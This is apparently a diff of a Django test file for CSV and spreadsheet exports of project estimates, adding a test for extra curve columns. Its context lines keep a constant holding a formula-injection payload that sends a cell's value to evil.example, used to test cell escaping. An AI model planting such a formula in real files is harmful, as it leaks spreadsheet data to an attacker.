@@ -15,11 +15,11 @@ from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 from django.utils import timezone
 
-from projects import vocabulary
+from projects import formatting, vocabulary
 from projects.models import Estimate, ShareLink
 from projects.models.tokens import new_token
+from projects.presenters.exports import quantile_table
 from projects.spreadsheet import BOM, csv_text, filename, safe_cell
-from projects.vocabulary import Chance
 
 # A project name that runs as a formula in a spreadsheet unless escaped (OWASP's example).
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
@@ -170,10 +170,7 @@ def test_a_project_without_an_estimate_has_a_row_with_empty_figures(client, owne
 
 
 def test_a_fifth_chance_gets_its_column_by_itself(client, owner, project, monkeypatch):
-    fifth = Chance("reaches_production", "Reaches production at all", "Production", "#7a3e9d")
-    monkeypatch.setattr(
-        vocabulary, "CHANCES", (*vocabulary.CHANCES[:3], fifth, vocabulary.CHANCES[3])
-    )
+    # The delivery model v2's fifth chance is in vocabulary.CHANCES: its column comes from there.
     estimate = project.shown_estimate()
     result = {**estimate.result}
     result["probability"] = {**result["probability"], "reaches_production": 0.875}
@@ -240,6 +237,17 @@ def test_an_estimates_quantiles_download_as_csv(client, viewer, team, project):
     assert float(middle["Cost (€)"]) == round(curves["cost_usd"][25])
     assert float(middle["Weeks to production"]) == round(curves["duration_weeks"][25], 1)
     assert len(header) == len(curves)  # every curve, the quantiles first
+
+
+def test_a_curve_the_engine_adds_gets_a_column_by_itself(project):
+    result = project.shown_estimate().result
+    curves = result["curves"]
+    count = len(curves["quantiles"])
+    extra = {"gpu_hours": [float(i) for i in range(count)], "compute_usd": [1000.4] * count}
+    with formatting.currency_of("€"):
+        table = quantile_table({**result, "curves": {**extra, **curves}})
+    assert table.header[-2:] == ["compute (€)", "gpu_hours"]  # after the known ones, by name
+    assert table.rows[3][-2:] == [1000, 3.0]
 
 
 @pytest.mark.parametrize("name", ["estimate_json", "estimate_csv"])
